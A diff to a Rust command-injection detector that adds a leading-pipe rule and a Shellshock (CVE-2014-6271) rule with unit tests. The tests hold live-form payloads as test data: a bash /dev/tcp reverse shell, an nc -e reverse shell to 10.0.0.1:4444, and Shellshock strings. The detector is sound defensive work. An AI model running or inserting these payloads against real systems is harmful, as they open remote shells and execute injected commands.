@@ -203,7 +203,12 @@ pub(crate) fn scan(t: &Toks, hits: &mut Hits) {
                 (false, Arg::Bare) => {
                     // `&&`, `||` and `;` before a lone command word that ends
                     // the value: prose has `dog | cat`, not `x; id`.
-                    let shell_only = t.is(i, "&&") || t.is(i, "||") || t.punct(i, ';');
+                    // A value that starts with `|` (`| id`) is appended to a
+                    // command line: prose does not open with a pipe.
+                    let shell_only = t.is(i, "&&")
+                        || t.is(i, "||")
+                        || t.punct(i, ';')
+                        || t.punct(i, '|') && i == 0;
                     let last = t.kind(k + 1).is_none();
                     if good && (adjacent || subst) {
                         70
@@ -236,6 +241,20 @@ pub(crate) fn scan(t: &Toks, hits: &mut Hits) {
                 "command.separator"
             };
             hits.add(CMD, rule, conf, tok.start, t.end(k));
+        }
+        // Shellshock (CVE-2014-6271): a bash function definition `() {` as
+        // the whole value (or right after `=`), which vulnerable bash runs the
+        // rest of on import. Code in prose has a name before `()`.
+        if t.punct(i, '(')
+            && t.punct(i + 1, ')')
+            && t.tight(i + 1)
+            && t.punct(i + 2, '{')
+            && (i == 0 || t.punct(i - 1, '=') || t.kind(i - 1) == Some(Kind::Quote))
+        {
+            let close = (i + 3..(i + 12).min(n)).find(|&k| t.punct(k, '}'));
+            if let Some(c) = close {
+                hits.add(CMD, "command.shellshock", 95, tok.start, t.end(c));
+            }
         }
         // `${IFS}` / `$IFS$9`: whitespace evasion that only a shell decodes.
         if t.punct(i, '$') && (t.is(i + 1, "ifs") || (t.punct(i + 1, '{') && t.is(i + 2, "ifs"))) {
@@ -333,6 +352,9 @@ mod tests {
         assert!(rules("; /bin/sh").contains(&"command.shell-path"));
         assert!(rules("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains(&"command.shell-path"));
         assert!(rules("nc -e /bin/sh 10.0.0.1 4444").contains(&"command.reverse-shell"));
+        assert!(rules("| id").contains(&"command.separator"));
+        assert!(rules("() { :;}; echo vulnerable").contains(&"command.shellshock"));
+        assert!(rules("User-Agent=() { :; }; /bin/bash -c id").contains(&"command.shellshock"));
     }
 
     #[test]
@@ -344,6 +366,8 @@ mod tests {
             "fish & chips; echo chamber",
             "Run `ls -la` to list files",
             "see ls.txt",
+            "function f() { return 1; }",
+            "a | id card",
         ] {
             assert!(rules(s).is_empty(), "{s}: {:?}", rules(s));
         }
